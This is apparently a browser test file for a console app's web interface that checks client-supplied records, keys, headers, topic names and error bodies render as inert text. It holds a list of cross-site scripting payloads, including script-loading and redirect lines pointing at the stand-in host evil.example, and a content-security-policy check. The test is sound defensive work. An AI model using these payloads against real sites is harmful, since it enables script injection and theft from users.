// Markup and scripts in every place where a client's text reaches the console: they are shown and do nothing.
//
// Rendering any of these places with `{@html}` makes the tests fail: the guard of the page hears the dialog, the policy
// violation or the foreign request, and the text on the page is no longer what was published.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Browser, caughtUp, openTopic, picture, signIn } from "./browser.mjs";
import { Server } from "./server.mjs";

const LIMIT = { timeout: 240_000 };
let browser;
before(async () => (browser = await Browser.start()));
after(() => browser.close());

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '"><iframe src="javascript:alert(1)"></iframe>',
  "'\"--></style></script><script src=//evil.example/x.js></script>",
  "<style>@import url(//evil.example/x.css);*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
  "<a href=javascript:alert(1)>x</a><form action=//evil.example><button>y</button></form>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "javascript:alert(1)",
  "{alert(1)}{{constructor.constructor('alert(1)')()}}${alert(1)}{@html '<b>'}",
  "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
  "__proto__",
];
// These have no place in a header's value: they are for keys and payloads alone.
const UNSEEN = ["\u202e<txt.exe\u202c", "a\u0000b\u0007\u001b[2J", "\ud83d\ude00\u200b\ufeff\u2028\u2029", "tab\there\nline"];

/** The elements that only an attack could have made. */
const foreignElements = (page) =>
  page.evaluate(() => document.querySelectorAll("main :is(img, svg, iframe, script, style, base, meta, link, math)").length);

test("payloads, keys, headers and content types are shown as the text that they are", LIMIT, async (t) => {
  const server = await Server.start(t);
  const records = [...ATTACKS, ...UNSEEN].flatMap((attack) => [
    { key: attack, text: attack, content_type: "text/html", headers: ATTACKS.includes(attack) ? { h: attack } : {} },
    { value: { [attack]: [attack] } },
  ]);
  await server.publish("attacks", records);
  const page = await browser.open(t, server);
  await signIn(page, server.key);
  for (const tab of ["records", "live"]) {
    await openTopic(page, "attacks", tab);
    if (tab === "live") await page.getByLabel("From").selectOption("earliest");
    await page.locator(".rows > li").nth(records.length - 1).waitFor();
    for (const row of await page.locator("summary").all()) await row.click();
    await page.locator(".rows pre").nth(records.length - 1).waitFor();
    const seen = await page.locator(".rows > li").evaluateAll((items) =>
      items.map((item) => ({
        offset: Number(item.querySelector(".place").textContent),
        key: item.querySelector(".key")?.textContent,
        payload: item.querySelector("pre").textContent,
        facts: [...item.querySelectorAll("dd")].map((fact) => fact.textContent),
      })),
    );
    assert.equal(seen.length, records.length);
    for (const { offset, key, payload, facts } of seen) {
      const { value, text, headers, content_type: contentType } = records[offset];
      assert.equal(payload, text ?? JSON.stringify(value, null, 2));
      assert.equal(key, records[offset].key);
      for (const fact of [contentType, headers?.h]) assert.ok(fact === undefined || facts.includes(fact), `${facts}`);
    }
    assert.equal(await foreignElements(page), 0);
    await picture(page, `markup-${tab}`);
  }
});

test("names and addresses with markup are refused and shown as text", LIMIT, async (t) => {
  const server = await Server.start(t);
  const page = await browser.open(t, server);
  await signIn(page, server.key);
  await page.getByRole("button", { name: "Create a topic" }).click();
  for (const attack of ATTACKS) {
    await page.getByLabel("Name", { exact: true }).fill(attack);
    await page.getByRole("button", { name: "Create", exact: true }).click();
    await page.getByRole("alert").getByText("invalid_topic_name").first().waitFor();
    await page.getByLabel("Names that begin with").fill(attack);
    assert.equal(await foreignElements(page), 0);
  }
  for (const attack of ATTACKS) {
    await openTopic(page, attack, "live");
    await page.getByRole("alert").getByText("invalid_topic_name").first().waitFor();
    assert.equal(await page.title(), `${attack} · Plinth`.replace(/\s+/g, " "));
    assert.equal(await foreignElements(page), 0);
  }
  assert.deepEqual((await server.call("GET", "/v1/topics")).data, []);
});

test("an answer that is markup from another server in between is shown as its status", LIMIT, async (t) => {
  const server = await Server.start(t);
  const page = await browser.open(t, server);
  await signIn(page, server.key);
  const body = JSON.stringify({ code: ATTACKS[0], detail: ATTACKS[1], status: 500, request_id: ATTACKS[2] });
  await page.route("**/v1/topics?*", (route) => route.fulfill({ status: 500, contentType: "text/html", body }));
  const alert = page.getByRole("alert");
  await alert.waitFor();
  const text = await alert.innerText();
  for (const attack of ATTACKS.slice(0, 3)) assert.ok(text.includes(attack), text);
  assert.equal(await foreignElements(page), 0);
});

test("the policy stops a script that has reached the page by another way", LIMIT, async (t) => {
  const server = await Server.start(t);
  const context = await browser.chromium.newContext();
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto(`${server.url}/console/`);
  const violated = await page.evaluate(async () => {
    const seen = [];
    const two = new Promise((done) =>
      document.addEventListener("securitypolicyviolation", (event) => {
        seen.push(event.effectiveDirective);
        if (seen.length === 2) done();
      }),
    );
    document.body.insertAdjacentHTML("beforeend", '<img src="//evil.example/x.png"><p onclick="window.ran = true">x</p>');
    document.querySelector("p[onclick]").click();
    await two;
    return { seen: seen.sort(), ran: window.ran === true };
  });
  assert.deepEqual(violated, { seen: ["img-src", "script-src-attr"], ran: false });
});
